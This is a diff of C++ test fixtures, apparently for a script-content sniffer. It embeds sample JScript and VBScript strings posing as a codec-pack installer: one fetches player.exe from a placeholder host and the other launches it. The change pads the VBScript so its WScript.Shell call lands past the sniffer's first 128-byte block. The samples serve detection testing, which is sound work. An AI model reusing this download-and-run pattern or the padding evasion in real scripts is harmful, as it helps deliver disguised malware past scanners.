@@ -269,11 +269,11 @@ const std::string kUrlFile =
 const std::string kJScript =
     "var shell = new ActiveXObject(\"WScript.Shell\");\r\nvar http = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n"
     "http.open(\"GET\", \"http://codec.example.invalid/player.exe\", false);\r\nhttp.send();\r\n";
-// The call past a line full of the letters a call may start with (and before
-// 128 bytes: a cut head of plain words would be text).
-const std::string kVbScript =
-    "' Codec pack setup: gets the player and starts it, as the readme says.\r\n"
-    "Dim s\r\nSet s = CREATEOBJECT(\"WScript.Shell\")\r\ns.Run \"player.exe\"\r\n";
+// The call 134 bytes in: past the sniffer's first block of 128, which holds
+// letters a call starts with, in a shorter last one. No blank before it, so
+// that no cut of it is text.
+const std::string kVbScript = "'" + std::string(64, '-') + "wag" + std::string(64, '-') +
+                              "\r\nCREATEOBJECT(\"WScript.Shell\").Run \"player.exe\"\r\n";
 
 }  // namespace
 
